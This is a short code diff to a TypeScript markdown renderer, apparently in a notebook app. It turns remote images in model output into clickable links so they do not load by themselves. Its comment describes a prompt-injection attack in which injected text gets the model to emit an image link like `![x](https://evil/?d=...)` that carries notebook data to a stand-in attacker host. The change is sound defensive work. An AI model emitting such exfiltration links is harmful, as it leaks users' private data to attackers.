@@ -26,6 +26,14 @@ const marked = new Marked({
       const raw = !("tokens" in token && token.tokens) && "escaped" in token && token.escaped === true;
       return raw ? escapeHtml(token.text) : false;
     },
+    // A remote image in model output would load by itself and could carry notebook data out
+    // in its URL (a prompt injection only has to ask for `![x](https://evil/?d=...)`). Show it
+    // as a link the user can choose to open; inline `data:` images still render.
+    image({ href, text, title }: Tokens.Image): string | false {
+      if (/^\s*data:/i.test(href ?? "")) return false;
+      const label = escapeHtml(text || title || "image");
+      return `<a href="${escapeHtml(href ?? "")}" class="ckw-md-image-link">\u{1F5BC}\u{FE0F} ${label}</a>`;
+    },
     code({ text, lang }: Tokens.Code): string {
       const language = (lang ?? "").trim().split(/\s+/)[0]?.replace(/[^\w+#.-]/g, "") ?? "";
       const cls = language ? ` class="language-${language}"` : "";
